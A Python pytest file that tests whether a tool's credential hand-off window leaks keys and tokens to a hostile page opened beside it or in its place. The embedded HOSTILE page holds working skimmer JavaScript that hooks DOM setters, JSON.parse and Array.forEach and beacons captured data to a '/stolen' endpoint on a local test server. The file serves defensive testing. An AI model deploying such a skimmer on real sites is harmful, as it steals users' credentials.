"""The hand-off window: the values go into one document of the tool's own, and into no other."""

import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page

from automation.browser.finding import Candidate
from automation.browser.opening import OpenBrowser
from automation.store.credentials import Credentials, Secret
from flows.commands import handoff
from flows.commands.handoff import page_data_of, show_until_closed, show_values
from flows.session.services import Services

VALUES = ("key4567890abcde", "secret-of-the-app", "token-token-token")
CREDENTIALS = Credentials(VALUES[0], Secret(VALUES[1]), Secret(VALUES[2]))
DATA = page_data_of(CREDENTIALS, "snow-atlas", "Acme")

HOSTILE = b"""<!doctype html><div id=values></div><div id=said></div><p id=about></p><p id=warning>
<ul id=steps></ul><button>x</button><script>
const send = (what) => navigator.sendBeacon("/stolen", String(what));
for (const name of ["value", "textContent"]) {
    const kind = name === "value" ? HTMLInputElement : Node;
    const own = Object.getOwnPropertyDescriptor(kind.prototype, name);
    const set = function (v) { send(v); own.set.call(this, v) };
    Object.defineProperty(kind.prototype, name, { ...own, set });
}
const parse = JSON.parse; JSON.parse = (text) => { send(text); return parse(text) };
const each = Array.prototype.forEach;
Array.prototype.forEach = function (f) { send(JSON.stringify(this)); return each.call(this, f) };
setInterval(() => send(document.documentElement.outerHTML), 100);
</script>"""


class Site:
    """A web site that wants to have the values."""

    def __init__(self) -> None:
        self.stolen = b""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(HOSTILE)))
                self.end_headers()
                self.wfile.write(HOSTILE)

            def do_POST(self) -> None:
                site.stolen += self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def has_values(self) -> bool:
        """Whether one of the three values came."""
        return any(value.encode() in self.stolen for value in VALUES)


@pytest.fixture
def site() -> Iterator[Site]:
    """A hostile web site on this machine."""
    made = Site()
    yield made
    made.server.shutdown()
    made.server.server_close()


def test_what_is_opened_beside_it_gets_nothing(
    services: Services, browser: Browser, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A site in a second tab, and one in place of the page, learn none of the three values."""
    monkeypatch.setattr(handoff, "LOOKED_AT_SECONDS", 30.0)
    context = browser.new_context()
    seen: list[str] = []

    @contextmanager
    def opener(profile: Path, tried: Sequence[Candidate], **_: object) -> Iterator[OpenBrowser]:
        context.new_page()
        yield OpenBrowser(context, "chromium", "1")
        context.close()

    def said(text: str) -> None:
        """The person opens the site beside the values, then in their place, then closes all."""
        seen.append(text)
        if len(seen) == 1:
            context.new_page().goto(site.url)
            context.pages[0].goto(site.url)
        else:
            for page in context.pages:
                with page.expect_request("**/stolen"):
                    """It has sent what it could get."""
            for page in context.pages:
                page.close()

    monkeypatch.setattr(handoff, "open_browser", opener)
    monkeypatch.setattr(handoff, "candidates", lambda *_, **__: [])
    monkeypatch.setattr(services.progress, "say", said)
    show_until_closed(DATA, None, services)
    assert "is gone" in seen[1]
    assert site.stolen
    assert not site.has_values()


def test_a_page_that_goes_meanwhile_gets_nothing(
    page: Page, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """If the tool's document is gone before it is filled, the one in its place stays empty."""
    found = page.wait_for_selector

    def late(*args: object, **more: object) -> object:
        place = found(*args, **more)  # type: ignore[arg-type]
        page.goto(site.url)
        return place

    monkeypatch.setattr(page, "wait_for_selector", late)
    with pytest.raises(Error):
        show_values(page, DATA)
    with page.expect_request("**/stolen"):
        """It has sent what it could get."""
    assert not site.has_values()
